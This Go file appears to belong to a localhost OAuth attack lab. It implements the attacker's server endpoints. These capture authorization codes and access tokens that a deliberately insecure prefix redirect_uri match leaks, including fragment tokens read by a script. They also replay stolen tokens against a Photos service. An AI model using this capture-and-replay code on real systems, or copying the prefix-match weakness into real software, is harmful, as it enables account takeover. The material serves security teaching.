package web

// Where a stolen code or token lands. With AUTHSERVER_INSECURE_REDIRECT_MATCH=prefix, Accounts
// sends the browser here from a redirect_uri such as http://localhost:9000@localhost:9666/steal
// (attack 01): a code arrives in the query. A token of the implicit flow arrives in the
// fragment (attack 04), which the browser never sends to a server: the page's own script
// (static/steal.js) reads it and posts it back here.

import (
	"net/http"

	"github.com/labstack/echo/v4"
)

// handleSteal keeps what arrived in the query, and shows the page whose script catches a
// fragment.
func handleSteal(a *attacker) echo.HandlerFunc {
	return func(c echo.Context) error {
		q := c.QueryParams()
		var got []string
		if code := q.Get("code"); code != "" {
			a.keep(loot{Kind: "code", Value: code, How: "the redirect_uri: Accounts sent Alice's browser here with the code"})
			got = append(got, "an authorization code")
		}
		if e := q.Get("error"); e != "" {
			a.keep(loot{Kind: "error", Value: e + ": " + q.Get("error_description"), How: "the redirect_uri, with an error"})
		}
		if token := q.Get("access_token"); token != "" {
			a.keepToken(c, token, "the query string")
			got = append(got, "an access token")
		}
		return a.pages.render(c, http.StatusOK, "stolen.html", map[string]any{"Got": got})
	}
}

// handleStealFragment receives the fragment that static/steal.js read from the address bar.
func handleStealFragment(a *attacker) echo.HandlerFunc {
	return func(c echo.Context) error {
		token := c.FormValue("access_token")
		if token == "" {
			return c.NoContent(http.StatusNoContent)
		}
		a.keepToken(c, token, "the URL fragment, read by a script on the attacker's page")
		return c.NoContent(http.StatusNoContent)
	}
}

// keepToken tries a stolen token at Photos and keeps it with the answer.
func (a *attacker) keepToken(c echo.Context, token, how string) {
	a.keep(loot{Kind: "access_token", Value: token, How: how, Photos: a.tryAtPhotos(c.Request().Context(), token)})
}
